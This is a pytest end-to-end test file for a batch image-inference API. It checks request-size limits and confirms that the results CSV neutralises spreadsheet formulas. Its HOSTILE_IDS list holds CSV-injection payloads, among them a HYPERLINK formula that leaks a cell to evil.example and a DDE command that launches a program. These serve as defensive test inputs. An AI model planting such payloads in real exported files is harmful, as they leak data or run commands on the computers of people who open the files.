"""JSON batches stay small (few items, a small body; files carry big batches), and the
results CSV never hands a spreadsheet a formula."""

import csv
import io
import json
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

pytestmark = pytest.mark.e2e

# Refused by the worker at once (a private address): the batch ends without inference.
FAST_FAIL_URL = "http://10.0.0.1/a.jpg"
HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
    "plain-id",
]


def _error(response: httpx.Response) -> str:
    body: dict[str, Any] = response.json()
    return str(body["error"]["code"])


def test_json_items_are_capped(api: httpx.Client) -> None:
    items = [{"image_url": FAST_FAIL_URL} for _ in range(1001)]
    response = api.post("/v1/batches", json={"items": items})
    assert response.status_code == 422, response.text
    assert _error(response) == "invalid_request"
    assert "1000" in response.json()["error"]["message"]


def test_a_large_json_body_is_refused_unread(api: httpx.Client) -> None:
    # Under the item cap, over the JSON body limit: long metadata in each item.
    items = [{"image_url": FAST_FAIL_URL, "metadata": {"pad": "x" * 2000}} for _ in range(600)]
    body = json.dumps({"items": items}).encode()
    assert len(body) > 1024 * 1024
    headers = {"content-type": "application/json"}
    response = api.post("/v1/batches", content=body, headers=headers)
    assert response.status_code == 413, response.text
    assert _error(response) == "payload_too_large"

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it streams
        for start in range(0, len(body), 64 * 1024):
            yield body[start : start + 64 * 1024]

    response = api.post("/v1/jobs", content=chunks(), headers=headers)
    assert response.status_code == 413, response.text
    assert _error(response) == "payload_too_large"


def test_a_file_still_carries_more_rows_than_json_may(api: httpx.Client) -> None:
    rows = "image_url\n" + f"{FAST_FAIL_URL}\n" * 1500
    response = api.post("/v1/batches", files={"file": ("rows.csv", rows.encode(), "text/csv")})
    assert response.status_code == 202, response.text


def _completed(api: httpx.Client, batch_id: str) -> None:
    deadline = time.monotonic() + 45
    while api.get(f"/v1/batches/{batch_id}").json()["completed_at"] is None:
        assert time.monotonic() < deadline, f"batch {batch_id} unfinished"
        time.sleep(0.2)


def test_results_csv_neutralises_formulas_and_jsonl_stays_raw(api: httpx.Client) -> None:
    items = [{"image_url": FAST_FAIL_URL, "external_id": value} for value in HOSTILE_IDS]
    response = api.post("/v1/batches", json={"items": items})
    assert response.status_code == 202, response.text
    batch_id = response.json()["id"]
    _completed(api, batch_id)

    text = api.get(f"/v1/batches/{batch_id}/results", params={"format": "csv"}).text
    cells = {row["external_id"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    expected = {value if value == "plain-id" else "'" + value for value in HOSTILE_IDS}
    assert cells == expected

    lines = api.get(f"/v1/batches/{batch_id}/results").text.splitlines()
    assert {json.loads(line)["external_id"] for line in lines} == set(HOSTILE_IDS)
